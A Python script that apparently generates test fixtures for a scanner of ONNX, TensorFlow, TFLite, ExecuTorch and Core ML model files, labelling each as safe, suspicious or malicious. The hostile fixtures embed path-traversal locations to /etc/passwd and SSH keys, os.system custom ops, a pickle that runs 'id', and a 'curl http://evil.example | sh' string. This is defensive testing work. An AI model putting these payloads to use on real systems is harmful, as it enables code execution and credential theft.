"""Writes the fixtures of formats that hold computation graphs: ordinary files by the real
libraries, hostile ones by editing their messages or byte by byte. Hostile files are never loaded.

    pip install onnx==1.23.2 skl2onnx onnxmltools coremltools        (sections onnx, sklearn, coreml)
    pip install tensorflow-cpu==2.21.0 tf_keras==2.21.0 tf2onnx      (sections tensorflow, tflite)
    pip install paddlepaddle==3.3.1                                  (section paddle)
    python make_graphs.py onnx sklearn coreml other

Each section can run in an environment of its own; the expected verdicts are gathered in
expected-graphs.json, which the tests read.
"""

import io
import json
import os
import pathlib
import shutil
import struct
import sys
import tempfile
import zipfile

HERE = pathlib.Path(__file__).parent
BOOK = HERE / "expected-graphs.json"
EXPECTED = json.loads(BOOK.read_text()) if BOOK.exists() else {}


def put(name, data, verdict, rule=None, **more):
    name = "graphs/" + name
    path = HERE / name
    path.parent.mkdir(exist_ok=True, parents=True)
    path.write_bytes(data)
    assert len(data) < 60_000, (name, len(data))
    EXPECTED[name] = {"verdict": verdict, **({"rule": rule} if rule else {}), **more}


def varint(n):
    out = b""
    while n > 0x7F:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def field(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data


def number(number, value):
    return varint(number << 3) + varint(value)


# --- ONNX ---------------------------------------------------------------------------------------

def onnx():
    import numpy as np
    import onnx as o
    from onnx import TensorProto, helper as h, numpy_helper, parser

    def value(name, shape=(1, 3), kind=TensorProto.FLOAT):
        return h.make_tensor_value_info(name, kind, shape)

    def model(nodes, initializers=(), opsets=(("", 21),), functions=(), inputs=("x",),
              outputs=("y",), **more):
        graph = h.make_graph(list(nodes), "g", [value(n) for n in inputs],
                             [value(n) for n in outputs], list(initializers))
        return h.make_model(graph, opset_imports=[h.make_opsetid(*p) for p in opsets],
                            functions=list(functions), producer_name="test", **more)

    def safe(name, m):
        put(f"benign/{name}.onnx", m.SerializeToString(), "safe", format="onnx")

    def hostile(name, m, verdict, rule):
        data = m if isinstance(m, bytes) else m.SerializeToString()
        put(f"hostile/{name}.onnx", data, verdict, rule)

    w = numpy_helper.from_array(np.ones((3, 3), np.float32), "w")
    gemm = h.make_node("Gemm", ["x", "w"], ["y"])
    safe("gemm", model([gemm], [w]))
    kinds = [np.float16, np.float64, np.int8, np.uint8, np.int64, np.bool_, np.complex64]
    many = [numpy_helper.from_array(np.zeros((2, 2), k), f"t{i}") for i, k in enumerate(kinds)]
    many += [h.make_tensor("f8", TensorProto.FLOAT8E4M3FN, [3], [1, 2, 3]),
             h.make_tensor("i4", TensorProto.INT4, [3], [1, 2, 3]),
             h.make_tensor("bf", TensorProto.BFLOAT16, [3], [1, 2, 3]),
             h.make_tensor("f", TensorProto.FLOAT, [3], [1, 2, 3]),
             h.make_tensor("d", TensorProto.DOUBLE, [1], [1]),
             h.make_tensor("c", TensorProto.COMPLEX64, [2], [1j, 2]),
             h.make_tensor("l", TensorProto.INT64, [2, 2], [1, -2, 3, 4]),
             h.make_tensor("u", TensorProto.UINT64, [1], [2**63]),
             h.make_tensor("s", TensorProto.STRING, [2], [b"a", b"b"]),
             h.make_tensor("none", TensorProto.FLOAT, [0], []),
             h.make_tensor("h", TensorProto.FLOAT16, [2], [1, 2])]
    safe("tensors", model([gemm], [w] + many))
    branch = lambda op: h.make_graph([h.make_node(op, ["x"], ["z"])], op, [], [value("z")])
    safe("if", model([h.make_node("Constant", [], ["c"], value=h.make_tensor(
        "c", TensorProto.BOOL, [], [True])),
        h.make_node("If", ["c"], ["y"], then_branch=branch("Relu"), else_branch=branch("Neg"))]))
    body = h.make_graph(
        [h.make_node("Add", ["v", "v"], ["w"]), h.make_node("Identity", ["k"], ["q"])], "body",
        [value("i", (), TensorProto.INT64), value("k", (), TensorProto.BOOL), value("v")],
        [value("q", (), TensorProto.BOOL), value("w")])
    safe("loop", model([h.make_node("Loop", ["n", "", "x"], ["y"], body=body)],
                       [h.make_tensor("n", TensorProto.INT64, [], [3])]))
    function = h.make_function("my.domain", "Twice", ["a"], ["b"],
                               [h.make_node("Add", ["a", "a"], ["b"])], [h.make_opsetid("", 21)])
    safe("function", model([h.make_node("Twice", ["x"], ["y"], domain="my.domain")],
                           functions=[function], opsets=(("", 21), ("my.domain", 1))))
    contrib = h.make_node("FusedMatMul", ["x", "w"], ["y"], domain="com.microsoft")
    safe("contrib", model([contrib], [w], opsets=(("", 21), ("com.microsoft", 1))))
    noted = model([gemm], [w], doc_string="See https://example.com/model for more.")
    h.set_model_props(noted, {"source": "https://example.com", "labels": "[1,2]"})
    safe("metadata", noted)
    sparse = model([gemm])
    sparse.graph.sparse_initializer.append(h.make_sparse_tensor(
        h.make_tensor("w", TensorProto.FLOAT, [1], [1.0]),
        h.make_tensor("i", TensorProto.INT64, [1], [2]), [3, 3]))
    safe("sparse", sparse)

    def external(entries, name="w"):
        tensor = TensorProto(name=name, data_type=1, dims=[3, 3], data_location=1)
        for k, v in entries:
            tensor.external_data.add(key=k, value=v)
        return model([gemm], [tensor])

    safe("external", external(
        [("location", "weights.bin"), ("offset", "4096"), ("length", "36")]))
    safe("external-folder", external([("location", "data/w.bin")]))
    folder = pathlib.Path(tempfile.mkdtemp())
    two = numpy_helper.from_array(np.arange(9, dtype=np.float32).reshape(3, 3), "v")
    o.save_model(model([gemm], [w, two]), str(folder / "pair.onnx"), save_as_external_data=True,
                 location="pair.onnx.data", size_threshold=0)
    put("benign/pair.onnx", (folder / "pair.onnx").read_bytes(), "safe", format="onnx")
    put("unknown/pair.onnx.data", (folder / "pair.onnx.data").read_bytes(), "unknown", "GH-ART-001")
    for name, path in [
        ("absolute", "/etc/passwd"), ("up", "../../../etc/passwd"), ("up-inside", "a/../../b"),
        ("drive", "C:\\Windows\\win.ini"), ("unc", "\\\\server\\share\\w"),
        ("backslash-up", "..\\..\\secret"), ("url", "http://evil.example/w.bin"),
        ("file-url", "file:///etc/passwd"), ("nul", "w.bin\0/../x"), ("home", "~/.ssh/id_rsa"),
        ("memory", "*/_ORT_MEM_ADDR_/*"), ("encoded", "%2e%2e/%2e%2e/etc/passwd"),
    ]:
        hostile(f"external-{name}", external([("location", path)]), "malicious", "GH-ONNX-003")
    hostile("external-hidden", external([("location", ".git/config")]), "suspicious",
            "GH-ONNX-003")
    hostile("external-attribute", external([("location", "w"), ("__class__", "x")]), "malicious",
            "GH-ONNX-005")
    hostile("external-key", external([("location", "w"), ("basename", "x")]), "suspicious",
            "GH-ONNX-005")
    hostile("external-negative", external([("location", "w"), ("offset", "-8")]), "suspicious",
            "GH-ONNX-005")
    hostile("external-length", external([("location", "w"), ("length", "99999999999")]),
            "suspicious", "GH-ONNX-005")
    hostile("external-nowhere", external([("offset", "0")]), "suspicious", "GH-ONNX-005")
    inner = external([("location", "/etc/shadow")]).graph.initializer[0]
    hostile("external-attribute-tensor", model(
        [h.make_node("Constant", [], ["y"], value=inner)]), "malicious", "GH-ONNX-003")
    deep = h.make_graph([h.make_node("Constant", [], ["z"], value=inner)], "t", [], [value("z")])
    hostile("external-in-if", model([h.make_node(
        "If", ["x"], ["y"], then_branch=deep, else_branch=branch("Neg"))]), "malicious",
        "GH-ONNX-003")
    inside = h.make_function("f", "F", ["a"], ["b"], [h.make_node("Constant", [], ["b"],
                             value=inner)], [h.make_opsetid("", 21)])
    hostile("external-in-function", model([h.make_node("F", ["x"], ["y"], domain="f")],
            functions=[inside], opsets=(("", 21), ("f", 1))), "malicious", "GH-ONNX-003")
    odd = model([gemm])
    odd.graph.sparse_initializer.append(o.SparseTensorProto(values=inner, indices=inner, dims=[3]))
    hostile("external-sparse", odd, "malicious", "GH-ONNX-003")
    for op, domain in [("PyOp", "pyop"), ("PythonOp", "com.microsoft"),
                       ("PyCustomOp", "ai.onnx.contrib"), ("PyOp", "com.microsoft.extensions"),
                       ("PythonOp", "")]:
        node = h.make_node(op, ["x"], ["y"], domain=domain, module="os", name_="system")
        hostile(f"python-{op}-{domain or 'default'}", model([node]), "malicious", "GH-ONNX-001")
    hostile("python-in-function", model(
        [h.make_node("F", ["x"], ["y"], domain="f")], functions=[h.make_function(
            "f", "F", ["a"], ["b"], [h.make_node("PyOp", ["a"], ["b"], domain="x")],
            [h.make_opsetid("", 21)])]), "malicious", "GH-ONNX-001")
    hostile("custom", model([h.make_node("Evil", ["x"], ["y"], domain="evil.ops")]), "suspicious",
            "GH-ONNX-002")
    hostile("custom-default", model([h.make_node("Systm", ["x"], ["y"])]), "suspicious",
            "GH-ONNX-002")
    hostile("aten", model([h.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten")]),
            "suspicious", "GH-ONNX-002")
    hostile("engine", model([h.make_node("EPContext", ["x"], ["y"], domain="com.microsoft",
            embed_mode=0, ep_cache_context="../../engine.bin")]), "malicious", "GH-ONNX-003")
    hostile("engine-embedded", model([h.make_node(
        "EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=1,
        ep_cache_context=b"\1\2\3")]), "suspicious", "GH-ONNX-006")
    shadow = h.make_function("", "Relu", ["a"], ["b"], [h.make_node("Neg", ["a"], ["b"])],
                             [h.make_opsetid("", 21)])
    hostile("shadow", model([h.make_node("Relu", ["x"], ["y"])], functions=[shadow]),
            "suspicious", "GH-ONNX-007")
    bomb = [h.make_function("b", f"F{i}", ["a"], ["b"], [
        h.make_node(f"F{i + 1}" if i < 30 else "Neg", ["a"], [f"c{j}"],
                    domain="b" if i < 30 else "") for j in range(8)],
        [h.make_opsetid("", 21), h.make_opsetid("b", 1)]) for i in range(31)]
    hostile("bomb", model([h.make_node("F0", ["x"], ["y"], domain="b")], functions=bomb),
            "suspicious", "GH-GRF-009")
    loop = h.make_function("b", "F", ["a"], ["b"], [h.make_node("F", ["a"], ["b"], domain="b")],
                           [h.make_opsetid("b", 1)])
    hostile("recursive", model([h.make_node("F", ["x"], ["y"], domain="b")], functions=[loop]),
            "suspicious", "GH-GRF-009")
    hostile("shape-bomb", model([h.make_node("ConstantOfShape", ["s"], ["y"])], [
        numpy_helper.from_array(np.array([2**30, 2**30], np.int64), "s")]), "suspicious",
        "GH-GRF-009")
    nested = branch("Relu").SerializeToString()
    for _ in range(60):
        attribute = field(1, b"then_branch") + field(6, nested) + number(20, 5)
        nested = field(1, field(4, b"If") + field(5, attribute))
    hostile("deep", field(7, nested) + number(1, 8) + field(8, number(2, 21)),
            "suspicious", "GH-GRF-004")
    for name, dims, data in [
        ("overflow", [2**62, 4], b"\0" * 16), ("negative", [-1, 4], b"\0" * 16),
        ("short", [1000, 1000], b"\0" * 16), ("long", [1], b"\0" * 16), ("zero", [0], b"\0" * 16),
    ]:
        hostile(f"dims-{name}", model([gemm], [TensorProto(
            name="w", data_type=1, dims=dims, raw_data=data)]), "suspicious", "GH-GRF-008")
    hostile("dims-floats", model([gemm], [TensorProto(
        name="w", data_type=1, dims=[100], float_data=[1.0])]), "suspicious", "GH-GRF-008")
    plain = model([gemm], [w]).SerializeToString()
    hostile("stranger", plain + field(999, b"hidden bytes"), "suspicious", "GH-GRF-001")
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 57
    hostile("stranger-elf", plain + field(999, elf), "suspicious", "GH-GRF-005")
    bad = model([gemm], [w])
    bad.graph.initializer.append(TensorProto(name="p", data_type=2, dims=[64], raw_data=elf))
    hostile("tensor-elf", bad, "suspicious", "GH-GRF-005")
    evil = b"\x80\x04\x95\x17\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
    bad = model([gemm], [w])
    bad.graph.initializer.append(TensorProto(name="p", data_type=2, dims=[len(evil)],
                                             raw_data=evil))
    hostile("tensor-pickle", bad, "malicious", "GH-PKL-001")
    bad = model([gemm], [w])
    h.set_model_props(bad, {"init": "import os; os.system('curl http://evil.example | sh')"})
    hostile("script", bad, "suspicious", "GH-GRF-006")
    hostile("twice", plain + field(7, model([h.make_node("Neg", ["x"], ["y"])])
            .graph.SerializeToString()), "suspicious", "GH-GRF-002")
    hostile("long-tag", plain.replace(b"\x08", b"\x88\x00", 1), "suspicious", "GH-GRF-002")
    hostile("reordered", field(8, number(2, 21)) + field(7, model([h.make_node(
        "PyOp", ["x"], ["y"], domain="x")]).graph.SerializeToString()) + number(1, 9),
        "malicious", "GH-ONNX-001")
    hostile("truncated", plain[:-5], "unknown", None)


def ort():
    """With onnxruntime 1.32.0 besides."""
    import onnxruntime as rt
    folder = pathlib.Path(tempfile.mkdtemp())
    options = rt.SessionOptions()
    options.optimized_model_filepath = str(folder / "m.ort")
    options.add_session_config_entry("session.save_model_format", "ORT")
    rt.InferenceSession(str(HERE / "graphs/benign/if.onnx"), options)
    data = (folder / "m.ort").read_bytes()
    put("benign/if.ort", data, "safe", format="onnx-runtime")
    put("hostile/python.ort", data.replace(b"Relu\0", b"PyOp\0"), "malicious", "GH-ONNX-001")
    put("hostile/custom.ort", data.replace(b"Relu\0", b"Evil\0"), "suspicious", "GH-ONNX-002")
    put("hostile/trailing.ort", data + b"hidden content " * 9, "suspicious", "GH-TFL-003")


def sklearn():
    import numpy as np
    from skl2onnx import to_onnx
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestRegressor
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    x = np.random.default_rng(1).normal(size=(60, 4)).astype(np.float32)
    y = (x[:, 0] > 0).astype(int)
    for name, thing in [
        ("logistic", make_pipeline(StandardScaler(), LogisticRegression())),
        ("forest", RandomForestRegressor(3, max_depth=3, random_state=1)),
        ("boosting", GradientBoostingClassifier(n_estimators=3, random_state=1)),
    ]:
        put(f"benign/skl-{name}.onnx", to_onnx(thing.fit(x, y), x[:1]).SerializeToString(), "safe",
            format="onnx")
    texts = np.array([["a b c"], ["b c d"]])
    from skl2onnx.common.data_types import StringTensorType
    from skl2onnx import convert_sklearn
    words = TfidfVectorizer().fit(["aa bb cc", "bb cc dd"])
    put("benign/skl-text.onnx", convert_sklearn(
        words, initial_types=[("x", StringTensorType([None, 1]))]).SerializeToString(), "safe",
        format="onnx")


# --- TensorFlow ---------------------------------------------------------------------------------

def saved(model, **how):
    """The files of a SavedModel by their paths in it."""
    import tensorflow as tf
    folder = pathlib.Path(tempfile.mkdtemp())
    try:
        if hasattr(model, "export") and not isinstance(model, tf.Module):
            model.export(folder)
        elif how.pop("keras", False):
            model.save(folder, save_format="tf")
        else:
            tf.saved_model.save(model, str(folder), **how)
        return {str(p.relative_to(folder)): p.read_bytes()
                for p in sorted(folder.rglob("*")) if p.is_file()}
    finally:
        shutil.rmtree(folder)


def module(function, *signature):
    import tensorflow as tf
    thing = tf.Module()
    thing.f = tf.function(function, input_signature=signature)
    return thing


def tensorflow():
    import numpy as np
    import tensorflow as tf
    tf.random.set_seed(1)
    keras = tf.keras
    v1 = tf.compat.v1
    SAVED, GRAPH, META = "tensorflow-savedmodel", "tensorflow-graph", "tensorflow-metagraph"

    def safe(name, files, only=None):
        for path, data in files.items():
            label = f"benign/tf-{name}-{path.replace('/', '-')}"
            if len(data) >= 60_000 or only and not path.endswith(only):
                continue
            if path.endswith("saved_model.pb"):
                put(label, data, "safe", format=SAVED)
            elif path.endswith("fingerprint.pb"):
                put(label, data, "safe", format="tensorflow-fingerprint")
            elif path.endswith("keras_metadata.pb"):
                put(label, data, "safe", format="keras-metadata")
            elif path.endswith(".index"):
                put(label, data, "safe", format="tensorflow-checkpoint-index")

    spec = tf.TensorSpec
    safe("dense", saved(keras.Sequential(
        [keras.Input((3,)), keras.layers.Dense(4, "relu"), keras.layers.Dense(1)])))

    class Scale(tf.Module):
        def __init__(self):
            super().__init__()
            self.w = tf.Variable([[1.0, 2.0]])

        @tf.function(input_signature=[spec([None, 2], tf.float32)])
        def __call__(self, x):
            while tf.reduce_sum(x) < 10.0:
                x = x * self.w
            return tf.cond(tf.reduce_sum(x) > 0.0, lambda: x, lambda: -x)

    scale = Scale()
    safe("module", saved(scale), only=("saved_model.pb",))

    class Table(tf.Module):
        def __init__(self, path):
            super().__init__()
            self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
                path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER), -1)

        @tf.function(input_signature=[spec([None], tf.string)])
        def __call__(self, x):
            return self.table.lookup(tf.strings.lower(x))

    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "vocab.txt")
        pathlib.Path(path).write_text("a\nb\n")
        safe("table", saved(Table(path)), only=("saved_model.pb",))

    # A graph of the first version, with its saver.
    folder = pathlib.Path(tempfile.mkdtemp())
    with v1.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [None, 2], name="x")
        w = v1.get_variable("w", [2, 1])
        y = tf.matmul(x, w, name="y")
        session.run(v1.global_variables_initializer())
        v1.saved_model.simple_save(session, str(folder / "s"), {"x": x}, {"y": y})
        v1.train.Saver().save(session, str(folder / "m.ckpt"), global_step=7)
        frozen = v1.graph_util.convert_variables_to_constants(
            session, session.graph_def, ["y"]).SerializeToString()
    safe("v1", {"saved_model.pb": (folder / "s/saved_model.pb").read_bytes()})
    put("benign/tf-v1.meta", (folder / "m.ckpt-7.meta").read_bytes(), "safe", format=META)
    put("benign/tf-v1.index", (folder / "m.ckpt-7.index").read_bytes(), "safe",
        format="tensorflow-checkpoint-index")
    put("benign/tf-checkpoint", b'model_checkpoint_path: "m.ckpt-7"\n'
        b'all_model_checkpoint_paths: "m.ckpt-7"\n', "safe", format="tensorflow-checkpoint")
    put("benign/tf-v1-frozen.pb", frozen, "safe", format=GRAPH)
    shutil.rmtree(folder)

    # --- hostile
    def hostile(name, function, verdict, rule, *signature):
        files = saved(module(function, *(signature or [spec([], tf.string)])))
        put(f"hostile/tf-{name}.pb", files["saved_model.pb"], verdict, rule)

    def write(x):
        tf.io.write_file("/tmp/x", x)
        return x

    hostile("write", write, "malicious", "GH-TF-001")
    hostile("read", lambda x: tf.io.read_file("/etc/passwd"), "malicious", "GH-TF-003")
    hostile("read-input", lambda x: tf.io.read_file(x), "suspicious", "GH-TF-002")
    hostile("read-joined", lambda x: tf.io.read_file(tf.strings.join(["/home/", x])), "malicious",
            "GH-TF-003")
    hostile("glob", lambda x: tf.io.matching_files("/root/.ssh/*"), "malicious", "GH-TF-003")
    hostile("py", lambda x: tf.numpy_function(lambda v: v, [x], tf.string), "malicious",
            "GH-TF-001")
    hostile("py-eager", lambda x: tf.py_function(lambda v: v, [x], tf.string), "malicious",
            "GH-TF-001")

    def report(x):
        tf.print(x, output_stream="file:///tmp/log")
        return x

    hostile("print", report, "malicious", "GH-TF-003")
    hostile("debug", lambda x: tf.raw_ops.DebugIdentity(
        input=x, debug_urls=["file:///tmp/dump"]), "malicious", "GH-TF-003")
    hostile("save", lambda x: [tf.raw_ops.SaveV2(
        prefix="/tmp/x", tensor_names=["a"], shape_and_slices=[""], tensors=[x]), x][1],
        "malicious", "GH-TF-003")
    hostile("restore", lambda x: tf.raw_ops.RestoreV2(
        prefix="../../other/model", tensor_names=["a"], shape_and_slices=[""],
        dtypes=[tf.float32])[0], "malicious", "GH-TF-003")
    hostile("copy", lambda x: tf.raw_ops.CopyHost(input=x, debug_ops_spec=[
        "DebugIdentity;file:///tmp/d;0"]), "malicious", "GH-TF-003")
    hostile("dataset", lambda x: tf.data.TextLineDataset("/etc/passwd").reduce(
        np.int64(0), lambda n, _: n + 1), "malicious", "GH-TF-003")
    hostile("in-branch", lambda x: tf.cond(
        tf.equal(x, "a"), lambda: tf.io.read_file("/etc/passwd"), lambda: x), "malicious",
        "GH-TF-003")
    dense = tf.compat.v1.GraphDef()
    dense.ParseFromString(frozen)
    node = dense.node.add(name="e", op="MyEvilOp")
    put("hostile/tf-custom.pb", dense.SerializeToString(), "suspicious", "GH-TF-005")
    node.op = "Abort"
    put("hostile/tf-abort.pb", dense.SerializeToString(), "suspicious", "GH-TF-006")
    node.op = "PyFunc"
    put("hostile/tf-frozen-py.pb", dense.SerializeToString(), "malicious", "GH-TF-001")
    node.op = "NoOp"
    put("hostile/tf-stranger.pb", dense.SerializeToString() + field(77, b"hidden"), "suspicious",
        "GH-GRF-001")
    tensor = dense.node.add(name="t", op="Const").attr["value"].tensor
    tensor.dtype = 1
    tensor.tensor_shape.dim.add(size=2**62)
    tensor.tensor_shape.dim.add(size=16)
    tensor.tensor_content = b"1234"
    put("hostile/tf-shape.pb", dense.SerializeToString(), "suspicious", "GH-GRF-008")
    from tensorflow.core.protobuf import saved_model_pb2
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "vocab.txt")
        pathlib.Path(path).write_text("a\nb\n")
        table = saved_model_pb2.SavedModel.FromString(saved(Table(path))["saved_model.pb"])
    table.meta_graphs[0].asset_file_def[0].filename = "../../../etc/passwd"
    put("hostile/tf-asset.pb", table.SerializeToString(), "malicious", "GH-TF-007")
    user = saved_model_pb2.SavedModel.FromString(saved(scale)["saved_model.pb"])
    user.meta_graphs[0].object_graph_def.nodes[0].user_object.metadata = json.dumps({
        "class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
            "name": "evil", "function": ["4wEAAAAAAAA=", None, None],
            "function_type": "lambda"}}]}})
    put("hostile/tf-lambda.pb", user.SerializeToString(), "malicious", "GH-TF-008")


def legacy():
    """Keras 2 (tf_keras) writes keras_metadata.pb."""
    os.environ["TF_USE_LEGACY_KERAS"] = "1"
    import tensorflow as tf
    import tf_keras as keras
    model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2), keras.layers.Dropout(.5)])
    files = saved(model, keras=True)
    put("benign/tf-keras2-keras_metadata.pb", files["keras_metadata.pb"], "safe",
        format="keras-metadata")
    put("benign/tf-keras2-saved_model.pb", files["saved_model.pb"], "safe",
        format="tensorflow-savedmodel")
    model = keras.Sequential([keras.Input((3,)), keras.layers.Lambda(lambda x: x * 2)])
    files = saved(model, keras=True)
    put("hostile/tf-keras2-lambda.pb", files["keras_metadata.pb"], "malicious", "GH-TF-008")


# --- TensorFlow Lite, ExecuTorch ----------------------------------------------------------------

def tflite():
    import flatbuffers
    import numpy as np
    import tensorflow as tf
    from tensorflow.lite.python import schema_py_generated as lite
    keras, ops = tf.keras, tf.lite.OpsSet

    def convert(model, flex=False, **how):
        folder = tempfile.mkdtemp()
        try:
            if isinstance(model, tf.Module):
                tf.saved_model.save(model, folder)
            else:
                model.export(folder)
            converter = tf.lite.TFLiteConverter.from_saved_model(folder)
            if flex:
                converter.target_spec.supported_ops = [ops.TFLITE_BUILTINS, ops.SELECT_TF_OPS]
            for key, value in how.items():
                setattr(converter, key, value)
            return converter.convert()
        finally:
            shutil.rmtree(folder)

    def safe(name, data):
        put(f"benign/{name}.tflite", data, "safe", format="tflite")

    dense = convert(keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, "relu"), keras.layers.Dense(1)]))
    safe("dense", dense)
    safe("conv", convert(keras.Sequential(
        [keras.Input((8, 8, 3)), keras.layers.Conv2D(2, 3), keras.layers.Flatten(),
         keras.layers.Dense(2, "softmax")]), optimizations=[tf.lite.Optimize.DEFAULT]))
    safe("flex", convert(keras.Sequential([keras.Input((5, 3)), keras.layers.GRU(2)]), True,
                         _experimental_lower_tensor_list_ops=False))
    safe("control", convert(module(lambda x: tf.cond(
        tf.reduce_sum(x) > 0, lambda: x * 2, lambda: x - 1), tf.TensorSpec([2], tf.float32))))
    out = io.BytesIO(dense)
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo("labels.txt"), "cat\ndog\n")
    safe("appended", out.getvalue())

    def hostile(name, data, verdict, rule):
        put(f"hostile/{name}.tflite", bytes(data), verdict, rule)

    def edit(change, data=dense):
        model = lite.ModelT.InitFromObj(lite.Model.GetRootAs(data, 0))
        change(model)
        builder = flatbuffers.Builder(1024)
        builder.Finish(model.Pack(builder), b"TFL3")
        return builder.Output()

    def custom(name):
        def change(model):
            model.operatorCodes[0].builtinCode = 32
            model.operatorCodes[0].deprecatedBuiltinCode = 32
            model.operatorCodes[0].customCode = name
        return change

    def setting(path, value):
        def change(model):
            thing = model
            for step in path[:-1]:
                thing = thing[step] if isinstance(step, int) else getattr(thing, step)
            setattr(thing, path[-1], value)
        return change

    safe("edited", edit(lambda model: None))
    hostile("custom", edit(custom("EvilOp")), "suspicious", "GH-TFL-001")
    hostile("flex-write", edit(custom("FlexWriteFile")), "malicious", "GH-TF-001")
    hostile("flex-py", edit(custom("FlexPyFunc")), "malicious", "GH-TF-001")
    hostile("flex-hidden", edit(lambda model: (
        custom("FlexAdd")(model), setattr(model.subgraphs[0].operators[0], "customOptions", list(
            b"\x06WriteFile\0\x12\x09WriteFile")))), "malicious", "GH-TF-001")
    hostile("delegate", edit(setting(["operatorCodes", 0, "builtinCode"], 51)), "suspicious",
            "GH-TFL-001")
    hostile("unknown", edit(setting(["operatorCodes", 0, "builtinCode"], 5000)), "suspicious",
            "GH-TFL-001")
    hostile("buffer", edit(setting(["subgraphs", 0, "tensors", 0, "buffer"], 99999)),
            "suspicious", "GH-TFL-002")
    hostile("opcode", edit(setting(["subgraphs", 0, "operators", 0, "opcodeIndex"], 77)),
            "suspicious", "GH-TFL-002")
    hostile("input", edit(setting(["subgraphs", 0, "operators", 0, "inputs"], [100000, 1, 2])),
            "suspicious", "GH-TFL-002")
    hostile("shape", edit(setting(["subgraphs", 0, "tensors", 1, "shape"], [2**30, 2**30, 2**30])),
            "suspicious", "GH-TFL-002")
    hostile("data-beyond", edit(lambda model: (setattr(model.buffers[1], "offset", 100),
            setattr(model.buffers[1], "size", 2**60))), "suspicious", "GH-TFL-002")
    hostile("external", edit(lambda model: setattr(model, "externalBufferGroups", [
        named(lite.ExternalBufferGroupT(), "../../etc/passwd")])), "malicious", "GH-TFL-004")
    hostile("elf", edit(lambda model: setattr(model.buffers[0], "data", list(
        b"\x7fELF\x02\x01\x01" + b"\1" * 57))), "suspicious", "GH-GRF-005")
    hostile("trailing", dense + b"hidden content, quite a lot of it " * 20, "suspicious",
            "GH-TFL-003")
    out = io.BytesIO(dense)
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo("x.pkl"), EVIL)
    hostile("appended", out.getvalue(), "malicious", "GH-PKL-001")
    hostile("truncated", dense[:-100], "unknown", None)
    hostile("cycle", struct.pack("<I4sHHi", 12, b"TFL3", 4, 4, 4) + struct.pack(
        "<I", 0xFFFFFFF0) * 8, "suspicious", "GH-TFL-002")


def named(thing, name):
    thing.name = name
    return thing


EVIL = b"\x80\x04\x95\x17\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."


def executorch():
    """With the package executorch 1.5.1 on the path."""
    import torch
    from executorch.exir import to_edge
    from torch.export import export

    class Model(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.linear = torch.nn.Linear(4, 3)

        def forward(self, x):
            return torch.softmax(self.linear(x) + 1, -1)

    torch.manual_seed(1)
    data = to_edge(export(Model().eval(), (torch.ones(1, 4),))).to_executorch().buffer
    put("benign/linear.pte", bytes(data), "safe", format="executorch")
    put("hostile/operator.pte", bytes(data).replace(b"aten::_softmax", b"evil::_softmax"),
        "suspicious", "GH-TFL-001")
    put("hostile/segments.pte", data[:-64], "suspicious", "GH-TFL-002")


# --- Core ML, PaddlePaddle, MXNet, Caffe, CNTK, ncnn, engines ------------------------------------

def coreml():
    import coremltools as ct
    import numpy as np
    from coremltools.converters.mil import Builder as mb
    from coremltools.models import datatypes
    from coremltools.models.neural_network import NeuralNetworkBuilder

    def safe(name, spec):
        put(f"benign/{name}.mlmodel", spec.SerializeToString(), "safe", format="coreml")

    def hostile(name, spec, verdict, rule):
        put(f"hostile/{name}.mlmodel", spec.SerializeToString(), verdict, rule)

    builder = NeuralNetworkBuilder([("x", datatypes.Array(4))], [("y", datatypes.Array(3))])
    builder.add_inner_product("fc", np.ones((3, 4)), np.ones(3), 4, 3, True, "x", "h")
    builder.add_activation("a", "RELU", "h", "y")
    safe("network", builder.spec)
    builder.spec.neuralNetwork.layers[1].custom.className = "EvilLayer"
    hostile("layer", builder.spec, "suspicious", "GH-OGF-002")

    @mb.program(input_specs=[mb.TensorSpec(shape=(1, 4))])
    def program(x):
        return mb.softmax(x=mb.linear(x=x, weight=np.ones((64, 4), np.float32)))

    folder = pathlib.Path(tempfile.mkdtemp()) / "m.mlpackage"
    ct.convert(program, convert_to="mlprogram", skip_model_load=True).save(str(folder))
    spec = ct.proto.Model_pb2.Model()
    spec.ParseFromString((folder / "Data/com.apple.CoreML/model.mlmodel").read_bytes())
    safe("program", spec)
    put("benign/coreml-weights.bin",
        (folder / "Data/com.apple.CoreML/weights/weight.bin").read_bytes(), "safe",
        format="coreml-weights")
    manifest = (folder / "Manifest.json").read_text()
    put("benign/coreml-Manifest.json", manifest.encode(), "safe", format="coreml-manifest")
    put("hostile/coreml-Manifest.json", manifest.replace(
        "com.apple.CoreML/model.mlmodel", "../../../../etc/passwd").encode(), "malicious",
        "GH-OGF-004")
    data = spec.SerializeToString()
    new = ct.proto.Model_pb2.Model()
    new.ParseFromString(data)
    for function in new.mlProgram.functions.values():
        for block in function.block_specializations.values():
            for operation in block.operations:
                for value in operation.attributes.values():
                    if value.HasField("blobFileValue"):
                        value.blobFileValue.fileName = "@model_path/../../../etc/passwd"
    hostile("weights", new, "malicious", "GH-OGF-004")
    new = ct.proto.Model_pb2.Model()
    new.ParseFromString(data)
    next(iter(next(iter(new.mlProgram.functions.values())).block_specializations.values())
         ).operations[-1].type = "evil_op"
    hostile("operation", new, "suspicious", "GH-OGF-002")
